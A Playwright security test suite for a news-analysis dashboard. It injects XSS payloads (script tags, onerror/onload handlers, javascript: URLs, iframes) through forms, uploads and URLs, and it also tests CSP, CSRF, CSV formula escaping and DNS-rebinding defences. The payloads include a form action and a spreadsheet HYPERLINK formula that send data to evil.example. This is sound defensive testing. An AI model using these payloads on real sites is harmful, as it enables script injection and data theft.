import type { ChildProcess } from "node:child_process";
import { existsSync } from "node:fs";
import { expect, type Page, test } from "@playwright/test";
import { CHROMIUM } from "../playwright.config";
import { startServer, stopServer, tempDataDir } from "./server";

// Hostile content in every field the dashboard shows, through the ingest form, an upload and the review form; every
// view that shows it must render it as inert text. Runs its own server (the shared one is stopped by the last
// dashboard test).
test.skip(
  !process.env.CI && !existsSync(CHROMIUM),
  `no chromium at ${CHROMIUM}: install Debian's chromium (apt-get install -y chromium) to run the dashboard tests`,
);
test.describe.configure({ mode: "serial" });

/**
 * Every payload either sets `window.__xss` or opens a dialog if it runs, and every injected element carries the
 * class `pwn` (or `data-pwn`), so finding one in the DOM means HTML was injected even if the CSP stopped it running.
 */
const RUN = "window.__xss=(window.__xss||0)+1;alert(document.domain)";
const P = {
  script: `<script class="pwn">${RUN}</script>`,
  img: `<img class="pwn" src="x" onerror="${RUN}">`,
  svg: `<svg class="pwn" onload="${RUN}"><circle r="5"/></svg>`,
  link: `<a class="pwn" href="javascript:${RUN}">click</a>`,
  iframe: `<iframe class="pwn" src="javascript:${RUN}"></iframe>`,
  form: `<form class="pwn" action="https://evil.example/steal"><button formaction="javascript:${RUN}">go</button></form>`,
  quote: `"><img data-pwn src=x onerror='${RUN}'>`,
  singleQuote: `'><svg data-pwn onload=${RUN}>`,
  style: `<style class="pwn">body{display:none}</style>`,
  entity: "&lt;img class=pwn src=x onerror=alert(1)&gt;",
};
const ALL = Object.values(P).join(" ");

const TITLE = `Envoys meet ${P.script}${P.img}`;
const OUTLET = `Wire ${P.quote}${P.svg}`;
const URL_PAYLOAD = `https://example.test/a?q="><script class="pwn">${RUN}</script>`;
const TEXT = [
  TITLE,
  "",
  `Qatar mediators met a Hamas delegation in Doha on Monday ${P.img} ${P.link}.`,
  `Israel rejected the proposal for a permanent ceasefire on Tuesday ${P.svg} ${P.iframe}.`,
  `Egypt urged both sides to release hostages ${P.form} ${P.quote}.`,
  `At least 40 people were killed in strikes overnight ${P.singleQuote} ${P.style} ${P.entity}.`,
].join("\n");
/** An upload whose name, title, outlet and `javascript:` URL carry payloads. */
const FILE_NAME = `"><img data-pwn src=x onerror=alert(7)>.json`;
const FILE_RECORDS = [
  {
    // Also a spreadsheet formula: the CSV download must not hand it to Excel as one.
    title: `=HYPERLINK("https://evil.example/?"&A1,"Talks stall") ${P.svg}`,
    outlet: `<a class="pwn" href="javascript:${RUN}">Desk</a>`,
    url: `javascript:${RUN}`,
    published: "2024-06-03",
    text: `Talks stall ${P.link}\n\nThe United States urged Israel to open crossings for aid ${P.img}. Hamas rejected the timetable ${P.script}.`,
  },
];
const AUTHOR = `Ana ${P.img}`;
const NOTE = `checked ${P.svg} ${P.link}`;
const ISSUE = `ceasefire ${P.quote}`;

let server: { url: string; child: ChildProcess; log: () => string };
let dataDir: string;

test.beforeAll(async () => {
  dataDir = tempDataDir();
  server = await startServer(dataDir);
});
test.afterAll(async () => {
  if (server) await stopServer(server.child);
});

async function api<T>(path: string, input?: unknown): Promise<T> {
  const q = input === undefined ? "" : `?input=${encodeURIComponent(JSON.stringify(input))}`;
  const res = await fetch(`${server.url}/api/trpc/${path}${q}`);
  const body = (await res.json()) as { result?: { data: T }; error?: unknown };
  if (!body.result) throw new Error(`${path}: ${JSON.stringify(body.error)}`);
  return body.result.data;
}

/** Records what would show that a payload ran: the flag, dialogs, and CSP violations (blocked attempts). */
async function watch(page: Page): Promise<string[]> {
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __xss: number; __csp: string[] };
    w.__xss = 0;
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`),
    );
  });
  return dialogs;
}

/** Everything on the page that shows a payload was injected or ran. */
function inspect(page: Page) {
  return page.evaluate(() => {
    const w = window as unknown as { __xss?: number; __csp?: string[] };
    const all = [...document.querySelectorAll("*")];
    const tagOf = (el: Element) => `<${el.tagName.toLowerCase()} class="${el.getAttribute("class") ?? ""}">`;
    return {
      ran: w.__xss ?? 0,
      csp: w.__csp ?? [],
      injected: [...document.querySelectorAll(".pwn, [data-pwn]")].map(tagOf),
      handlers: all.flatMap((el) =>
        [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${tagOf(el)} ${a.name}`),
      ),
      scriptUrls: all.flatMap((el) =>
        ["href", "src", "action", "formaction", "xlink:href", "data"]
          .map((n) => el.getAttribute(n))
          .filter((v): v is string => !!v && /^\s*(javascript|vbscript|data:text\/html)/i.test(v))
          .map((v) => `${tagOf(el)} ${v.slice(0, 40)}`),
      ),
      frames: document.querySelectorAll("iframe, frame, object, embed").length,
      // biome-ignore lint/performance/useDomNodeTextContent: the rendered text, not the inline scripts' data
      text: document.body.innerText,
    };
  });
}

async function expectInert(page: Page, dialogs: string[], where: string) {
  const s = await inspect(page);
  expect(s.ran, `${where}: a payload ran`).toBe(0);
  expect(dialogs, `${where}: a payload opened a dialog`).toEqual([]);
  expect(s.injected, `${where}: payload elements in the DOM`).toEqual([]);
  expect(s.handlers, `${where}: inline event handlers in the DOM`).toEqual([]);
  expect(s.scriptUrls, `${where}: script URLs in the DOM`).toEqual([]);
  expect(s.frames, `${where}: frames in the DOM`).toBe(0);
  // No violation at all: nothing injected tried to run, and the dashboard's own code lives within the policy.
  expect(s.csp, `${where}: CSP violations`).toEqual([]);
  return s.text;
}

async function open(page: Page, path: string, ready?: string) {
  await page.goto(`${server.url}${path}`);
  await expect(page.locator("h1").first()).toBeVisible();
  await expect(page.locator("[aria-busy=true]")).toHaveCount(0);
  if (ready) await expect(page.locator(ready).first()).toBeVisible();
}

test("the checks see an injection when there is one (self-test of this spec)", async ({ page }) => {
  const dialogs = await watch(page);
  await page.goto("about:blank");
  await page.setContent(`<main>${P.img}${P.link}</main>`);
  await expect.poll(async () => (await inspect(page)).ran).toBe(1);
  const s = await inspect(page);
  expect(s.injected).toHaveLength(2);
  expect(s.handlers).toHaveLength(1);
  expect(s.scriptUrls).toHaveLength(1);
  expect(dialogs).toHaveLength(1);
});

test("hostile text, metadata and upload go in through the ingest form and render as text", async ({ page }) => {
  const dialogs = await watch(page);
  await open(page, "/ingest");
  await page.getByLabel("Outlet").fill(OUTLET);
  await page.getByLabel("Published (YYYY-MM-DD)").fill("2024-06-01");
  await page.getByLabel("Title (pasted text; default: first line)").fill(TITLE);
  await page.getByLabel("URL").fill(URL_PAYLOAD);
  await page.getByLabel("Article text").fill(TEXT);
  await page.getByLabel(/or files/).setInputFiles([
    { name: FILE_NAME, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(FILE_RECORDS)) },
    { name: `${P.img}.pdf`, mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4") },
    { name: "huge.txt", mimeType: "text/plain", buffer: Buffer.alloc(21 * 1024 * 1024, "a") },
  ]);
  await page.getByRole("button", { name: "Ingest", exact: true }).click();
  await expect(page.getByTestId("ingest-progress")).toHaveText("4/4");
  const rows = page.getByTestId("ingest-results").locator("tbody tr");
  await expect(rows).toHaveCount(4);
  // The pasted article and the upload are stored; the .pdf and the 21 MB file are refused in the browser, unsent.
  await expect(rows.nth(0).locator("td").nth(1)).toHaveText("1");
  await expect(rows.nth(1).locator("td").nth(1)).toHaveText("1");
  await expect(rows.nth(2).locator("td").nth(5)).toContainText('unsupported file type ".pdf"');
  await expect(rows.nth(3).locator("td").nth(5)).toHaveText("21.0 MB is over the 20.0 MB limit per file");
  const text = await expectInert(page, dialogs, "/ingest results");
  expect(text).toContain(FILE_NAME);

  const stats = await api<{ articles: number; events: number }>("corpus.stats");
  expect(stats.articles).toBe(2);
  expect(stats.events).toBeGreaterThan(2);
  const [article] = await api<{ title: string; outlet: string; url: string }[]>("articles.list", { outlet: OUTLET });
  // Stored verbatim: the dashboard escapes on output, it does not mangle input.
  expect(article).toMatchObject({ title: TITLE, outlet: OUTLET, url: URL_PAYLOAD });
  const [upload] = await api<{ url: string | null }[]>("articles.list", { text: "timetable" });
  expect(upload!.url).toMatch(/^javascript:/);
});

test("reviews with hostile author, note and corrected issue render as text", async ({ page }) => {
  const dialogs = await watch(page);
  const events = await api<{ id: string; articleId: string; type: string }[]>("events.list", { limit: 50 });
  const [first, second] = events;
  await open(page, `/events/${encodeURIComponent(first!.id)}`);
  await page.getByLabel("Your name").fill(AUTHOR);
  await page.getByRole("button", { name: "Verify" }).click();
  await expect(page.getByRole("status")).toContainText("Saved: verify by Ana <img");
  await expect(page.getByTestId("review-history")).toContainText(AUTHOR);
  await expectInert(page, dialogs, "event page after verify");

  await open(page, `/events/${encodeURIComponent(second!.id)}`);
  await page.getByLabel("Your name").fill(AUTHOR);
  await page.getByRole("button", { name: "Correct…" }).click();
  await page.getByLabel("Issues (comma-separated)").fill(ISSUE);
  await page.getByLabel("Note").fill(NOTE);
  await page.getByRole("button", { name: "Save correction" }).click();
  await expect(page.getByTestId("review-history")).toContainText(NOTE);
  await expectInert(page, dialogs, "event page after correction");
  const reviews = await api<{ author: string; note: string | null }[]>("review.list", {});
  expect(reviews.map((r) => r.author)).toEqual([AUTHOR, AUTHOR]);
  expect(reviews[1]!.note).toBe(NOTE);
});

test("every view that shows the hostile content renders it inert", async ({ page }) => {
  const dialogs = await watch(page);
  const events = await api<{ id: string; articleId: string }[]>("events.list", { limit: 50 });
  const ev = events[0]!;
  const actors = await api<{ id: string; events: number }[]>("actors.list", { limit: 50 });
  const actor = actors.find((a) => a.events > 0)!;
  const enc = encodeURIComponent;
  const views: [string, string?][] = [
    ["/"],
    ["/timeline", "figure svg"],
    ["/actors", "canvas"],
    [`/actors/${enc(actor.id)}`],
    ["/issues"],
    ["/map"],
    ["/claims"],
    ["/sources"],
    ["/review"],
    ["/review?state=verified"],
    ["/review?state=corrected"],
    [`/articles/${enc(ev.articleId)}?event=${enc(ev.id)}`, "mark.ev.active"],
    ...[...new Set(events.map((e) => e.articleId))].map((a): [string] => [`/articles/${enc(a)}`]),
    ...events.slice(0, 4).map((e): [string] => [`/events/${enc(e.id)}`]),
    // Payloads in the URL: reflected into the filter form and the API's error message.
    [`/timeline?actor=${enc(P.quote)}&outlet=${enc(OUTLET)}&text=${enc(P.script)}`],
    [`/timeline?from=${enc(P.img)}`],
    [`/claims?outlet=${enc(OUTLET)}`],
    [`/issues?issue=${enc(ISSUE)}`],
  ];
  let shown = "";
  for (const [path, ready] of views) {
    await open(page, path, ready);
    shown += await expectInert(page, dialogs, path);
  }
  // The payloads were on screen as text (so the views did show them, escaped, rather than drop them).
  for (const visible of [TITLE, OUTLET, AUTHOR, NOTE, P.link, P.svg, P.iframe, P.form, P.entity]) {
    expect(shown, `shown as text somewhere: ${visible}`).toContain(visible);
  }
  // CSV downloads neutralise formulas (a leading ') and keep the text.
  await open(page, "/timeline");
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download CSV" }).last().click();
  const { readFileSync } = await import("node:fs");
  const csv = readFileSync(await (await download).path(), "utf8");
  expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?""&A1,""Talks stall"")`);
  expect(csv).not.toMatch(/(^|[,\n])"?[=+@]/);
  // No link to the article's javascript: URL, anywhere (checked per view above); the reader shows it as text.
  await open(page, `/articles/${enc((await api<{ id: string }[]>("articles.list", { text: "timetable" }))[0]!.id)}`);
  await expect(page.getByText(/^javascript:window\.__xss/)).toBeVisible();
  expect(ALL.length).toBeGreaterThan(0);
});

test("pages carry a fresh nonce CSP without unsafe-inline scripts; every response has the security headers", async () => {
  const [a, b] = [await fetch(`${server.url}/timeline`), await fetch(`${server.url}/timeline`)];
  const policy = a.headers.get("content-security-policy")!;
  const scripts = policy.split(";").find((d) => d.trim().startsWith("script-src"))!;
  expect(scripts).toMatch(/'nonce-[A-Za-z0-9+/=]{16,}'/);
  expect(scripts).toContain("'strict-dynamic'");
  expect(scripts).not.toContain("unsafe-inline");
  expect(scripts).not.toContain("unsafe-eval");
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'none'");
  const nonce = /'nonce-([^']+)'/.exec(policy)![1]!;
  expect(b.headers.get("content-security-policy")).not.toContain(nonce);
  // Next put this response's nonce on its scripts; no script lacks it.
  const html = await a.text();
  const tags = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
  expect(tags.length).toBeGreaterThan(0);
  for (const tag of tags) expect(tag).toContain(`nonce="${nonce}"`);

  const asset = /<script[^>]+src="(\/_next\/static\/[^"]+\.js)"/.exec(html)![1]!;
  const responses = {
    page: a,
    api: await fetch(`${server.url}/api/trpc/corpus.stats`),
    asset: await fetch(`${server.url}${asset}`),
    missing: await fetch(`${server.url}/no-such-page`),
    apiError: await fetch(`${server.url}/api/trpc/events.list?input=${encodeURIComponent('{"from":"x"}')}`),
  };
  expect(responses.asset.status).toBe(200);
  expect(responses.missing.status).toBe(404);
  expect(responses.apiError.status).toBe(400);
  for (const [name, r] of Object.entries(responses)) {
    expect(r.headers.get("x-content-type-options"), name).toBe("nosniff");
    expect(r.headers.get("referrer-policy"), name).toBe("no-referrer");
    expect(r.headers.get("x-frame-options"), name).toBe("DENY");
    expect(r.headers.get("content-security-policy"), name).toContain("frame-ancestors 'none'");
    expect(r.headers.get("content-security-policy"), name).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(r.headers.get("access-control-allow-origin"), name).toBeNull();
  }
  expect(responses.api.headers.get("content-security-policy")).toContain("default-src 'none'");
});

test("a forged cross-site form POST and cross-origin writes get 403 and change nothing", async ({ page }) => {
  const before = await api<{ articles: number; reviews: number }>("corpus.stats");
  // A real browser on another origin (about:blank here: Origin null) submits a form to the API.
  await page.goto("about:blank");
  await page.setContent(
    `<form id="f" method="post" enctype="text/plain" action="${server.url}/api/trpc/ingest.text">` +
      `<input name='{"text":"Forged article about talks","x":"' value='"}'></form>`,
  );
  const [response] = await Promise.all([
    page.waitForResponse((r) => r.url().includes("/api/trpc/ingest.text")),
    page.evaluate(() => (document.getElementById("f") as HTMLFormElement).submit()),
  ]);
  expect(response.status()).toBe(403);

  const post = (headers: Record<string, string>) =>
    fetch(`${server.url}/api/trpc/review.submit`, {
      method: "POST",
      headers,
      body: JSON.stringify({ eventId: "x", review: { action: "verify", author: "forger" } }),
    });
  expect((await post({ "content-type": "application/json", origin: "https://evil.example" })).status).toBe(403);
  expect((await post({ "content-type": "application/json", "sec-fetch-site": "cross-site" })).status).toBe(403);
  expect((await post({ "content-type": "text/plain" })).status).toBe(415);
  expect((await post({ "content-type": "application/x-www-form-urlencoded" })).status).toBe(415);
  // The same request from the dashboard's own origin reaches the API (and fails there: no such event).
  const own = await post({ "content-type": "application/json", origin: server.url });
  expect(own.status).toBe(404);

  expect(await api("corpus.stats")).toMatchObject(before);
  expect(server.log()).not.toMatch(/request failed/);
});

test("on loopback the server answers only to loopback names (no DNS rebinding)", async () => {
  const { request } = await import("node:http");
  const status = (host: string) =>
    new Promise<number>((ok, fail) => {
      const u = new URL(server.url);
      const req = request(
        { host: u.hostname, port: u.port, path: "/api/trpc/corpus.stats", headers: { host } },
        (r) => {
          r.resume();
          ok(r.statusCode ?? 0);
        },
      );
      req.on("error", fail);
      req.end();
    });
  expect(await status(`localhost:${new URL(server.url).port}`)).toBe(200);
  expect(await status(`rebound.evil.example:${new URL(server.url).port}`)).toBe(403);
});
